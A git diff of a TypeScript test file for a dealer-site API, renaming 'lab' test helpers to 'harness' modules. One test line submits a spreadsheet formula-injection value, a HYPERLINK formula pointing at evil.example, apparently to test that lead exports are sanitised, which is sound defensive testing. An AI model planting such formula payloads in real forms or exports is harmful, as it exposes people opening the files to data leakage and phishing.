@@ -9,10 +9,10 @@ import { storePageSnapshot } from '../../src/api/store/page-snapshot.ts';
 import { insertReservation } from '../../src/api/store/reservations/insert-reservation.ts';
 import { enqueueStockJob } from '../../src/api/store/stock/enqueue-stock-job.ts';
 import { insertValuation } from '../../src/api/store/valuations.ts';
-import { buildSite, feedRows, filesIn, sharedTools } from '../builder/lab.ts';
-import { enquiry } from '../leads/api-lab.ts';
-import { NOON } from '../leads/lab.ts';
-import { labForTests, STORES } from '../leads/lab-for-tests.ts';
+import { buildSite, feedRows, filesIn, sharedTools } from '../builder/build-helpers.ts';
+import { enquiry } from '../leads/api-harness.ts';
+import { harnessForTests, STORES } from '../leads/harness-for-tests.ts';
+import { NOON } from '../leads/lead-harness.ts';
 import { DOCUMENTS } from '../support/samples/documents.ts';
 import { sampleCars } from '../support/samples/sample-cars.ts';
 import { type TemporaryDealer, temporaryDealer } from '../support/temporary-dealer.ts';
@@ -37,10 +37,10 @@ const money = {
 };
 
 describe.each(STORES)('%s', kind => {
-  const { isPostgres, skips, lab, url } = labForTests(kind, SITES);
+  const { isPostgres, skips, harness, url } = harnessForTests(kind, SITES);
   let erased = '';
   const request = (site: string, address: string, init: RequestInit) =>
-    apiApp({ ...lab(), env: { LEADS_KEY } }).request(`http://${site}.localhost${address}`, {
+    apiApp({ ...harness(), env: { LEADS_KEY } }).request(`http://${site}.localhost${address}`, {
       method: 'POST',
       ...init,
     });
@@ -67,7 +67,7 @@ describe.each(STORES)('%s', kind => {
 
   /** The same of both sites; the data of the other has a mark. */
   async function fillSite(site: string, mark: string): Promise<void> {
-    const { store } = lab();
+    const { store } = harness();
     await lead(site, `${mark} hello`);
     await lead(site, `=HYPERLINK("https://evil.example/${mark}")`, '@SUM(1+1)');
     await sendJson(site, '/api/forms', { ...money, name: mark || 'Jo' });
@@ -118,7 +118,7 @@ describe.each(STORES)('%s', kind => {
     await fillSite('sample', '');
     await fillSite('sample-two', OTHER);
     erased = await lead('sample', 'ERASED WORDS');
-    await eraseLeads(lab().store, [erased], NOON);
+    await eraseLeads(harness().store, [erased], NOON);
   });
   async function builtDealer(): Promise<{ dealer: TemporaryDealer; kit: string }> {
     const dealer = await temporaryDealer({ stock: feedRows(sampleCars(2)) });
@@ -136,7 +136,7 @@ describe.each(STORES)('%s', kind => {
         '--out',
         out,
         '--store',
-        path.join(lab().dist, 'store'),
+        path.join(harness().dist, 'store'),
         ...more,
       ],
       { ...(isPostgres ? { DATABASE_URL: url() ?? '' } : OFFLINE), ...env },
